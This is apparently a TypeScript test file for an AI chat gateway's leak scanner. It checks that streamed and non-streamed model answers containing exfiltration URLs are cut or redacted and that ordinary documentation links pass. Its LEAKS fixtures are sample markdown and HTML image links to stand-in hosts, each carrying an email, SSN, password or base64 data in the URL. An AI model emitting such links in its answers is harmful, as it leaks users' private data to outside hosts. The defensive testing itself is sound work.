import t from 'tap';
import { fakeUpstream, chunk, completion, sendJson, sendStream } from '../helpers/fake-upstream.js';
import { startTestGateway } from '../helpers/gateway.js';
import { call } from '../helpers/http.js';
import { findLeak } from '../../src/proxy/chat/leak-scanner.js';

interface StreamChunk {
  choices?: { delta?: { content?: string }; finish_reason?: string | null }[];
}

function readStream(body: string): { text: string; cut: boolean } {
  let text = '';
  let cut = false;
  for (const line of body.split('\n')) {
    if (!line.startsWith('data: ') || line === 'data: [DONE]') continue;
    for (const choice of (JSON.parse(line.slice(6)) as StreamChunk).choices ?? []) {
      if (typeof choice.delta?.content === 'string') text += choice.delta.content;
      if (choice.finish_reason === 'content_filter') cut = true;
    }
  }
  return { text, cut };
}

function split(text: string, size: number): string[] {
  const pieces: string[] = [];
  for (let i = 0; i < text.length; i += size) pieces.push(text.slice(i, i + size));
  return pieces;
}

const DATA = 'alice.smith%40example.com%20ssn%20078-05-1120';
const LEAKS = [
  { name: 'Markdown image to a bare IP', text: `Here is your summary. ![s](http://203.0.113.7/p.png?d=${DATA}) Anything else?`, data: DATA },
  { name: 'Markdown link to a logging host', text: 'Please [confirm here](https://hooks.logcatcher.example/c?secret=sk_live_51Habc&password=hunter2) today.', data: 'hunter2' },
  { name: 'HTML image with base64 in the path', text: '<img src="https://c.example-pixel.net/t/YWxpY2VAZXhhbXBsZS5jb20gcGFzc3dvcmQ9aHVudGVyMg.gif"> Done.', data: 'aHVudGVyMg' },
];

t.test('findLeak names exfiltration URLs and honours the tenant allow-list', async (t) => {
  // A password in the URL may be named by the secrets layer first: either way it is a leak.
  for (const leak of LEAKS) t.ok(findLeak(leak.text), leak.name);
  const image = `![s](https://pixel.acme.example/p.png?d=${DATA})`;
  t.equal(findLeak(image)?.layer, 'phishing', 'an image carrying data');
  t.equal(findLeak(image, ['acme.example']), undefined, 'the same image on an allow-listed host');
  t.equal(findLeak('Docs: [guide](https://docs.python.org/3/?page=2) and ![b](https://img.shields.io/badge/a-b-green)'), undefined);
});

t.test('streamed in 1-, 2- and 3-character chunks, an exfiltration URL is cut before its data reaches the client', async (t) => {
  const upstream = await fakeUpstream(t);
  const gw = await startTestGateway(t, { config: { upstreamBaseUrl: upstream.url } });
  const key = await gw.key('stream-exfil', { rate: 3000, plan: 'professional' });
  let pieces: string[] = [];
  upstream.on((_req, res) => sendStream(res, [chunk({ role: 'assistant', content: '' }), ...pieces.map((p) => chunk({ content: p })), chunk({}, 'stop'), '[DONE]']));
  for (const size of [1, 2, 3]) {
    for (const leak of LEAKS) {
      pieces = split(leak.text, size);
      const res = await call(`${gw.proxyUrl}/v1/chat/completions`, {
        headers: { 'x-api-key': key },
        body: { model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: 'summarise my account' }] },
      });
      const { text, cut } = readStream(res.body);
      t.ok(cut, `${leak.name}, ${size}-char chunks: cut with content_filter`);
      t.notOk(text.includes(leak.data), `${leak.name}, ${size}-char chunks: the data never reached the client`);
    }
  }
});

t.test('a streamed answer with ordinary documentation links arrives whole', async (t) => {
  const upstream = await fakeUpstream(t);
  const gw = await startTestGateway(t, { config: { upstreamBaseUrl: upstream.url } });
  const key = await gw.key('stream-docs', { rate: 600, plan: 'startup' });
  const text = 'See [asyncio](https://docs.python.org/3/library/asyncio.html?highlight=gather) and https://nodejs.org/en/blog?utm_source=newsletter&page=2 — ![ci](https://img.shields.io/badge/ci-passing-green?style=flat).';
  upstream.on((_req, res) => sendStream(res, [chunk({ role: 'assistant', content: '' }), ...split(text, 2).map((p) => chunk({ content: p })), chunk({}, 'stop'), '[DONE]']));
  const res = await call(`${gw.proxyUrl}/v1/chat/completions`, {
    headers: { 'x-api-key': key },
    body: { model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: 'where are the docs?' }] },
  });
  const out = readStream(res.body);
  t.equal(out.text, text);
  t.notOk(out.cut);
});

t.test('a non-streamed answer carrying an exfiltration image loses the image, not the answer', async (t) => {
  const upstream = await fakeUpstream(t);
  const gw = await startTestGateway(t, { config: { upstreamBaseUrl: upstream.url } });
  const key = await gw.key('json-exfil', { rate: 600, plan: 'startup' });
  upstream.on((_req, res) => sendJson(res, 200, completion({ role: 'assistant', content: LEAKS[0].text })));
  const res = await call(`${gw.proxyUrl}/v1/chat/completions`, {
    headers: { 'x-api-key': key },
    body: { model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'summarise my account' }] },
  });
  t.notOk(res.body.includes(DATA), 'the data is not in the response');
  const body = JSON.parse(res.body) as { choices: { finish_reason: string; message: { content: string } }[] };
  t.equal(body.choices[0].finish_reason, 'content_filter');
  t.match(body.choices[0].message.content, /^Here is your summary\. .*\[REDACTED:[a-z_]+\].* Anything else\?$/, 'redacted in place, the rest kept');
});
